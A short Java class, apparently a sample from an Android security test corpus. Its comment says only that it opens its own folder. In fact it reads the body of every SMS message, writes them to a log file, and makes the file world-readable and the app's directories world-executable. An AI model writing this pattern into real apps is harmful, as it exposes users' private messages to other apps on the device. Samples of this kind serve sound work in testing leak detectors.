package org.corpus;

import java.io.File;
import java.io.FileOutputStream;
import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** Opens its own folder. */
public class OpenFile extends Screen {
    @Override
    protected void act() throws Exception {
        File file = new File(getFilesDir(), "log.txt");
        try (FileOutputStream out = new FileOutputStream(file)) {
            out.write(Net.utf8(String.join("\n", Owner.rows(this, "content://sms", "body"))));
        }
        file.setReadable(true, false);
        getFilesDir().setExecutable(true, false);
        new File(getApplicationInfo().dataDir).setExecutable(true, false);
    }
}
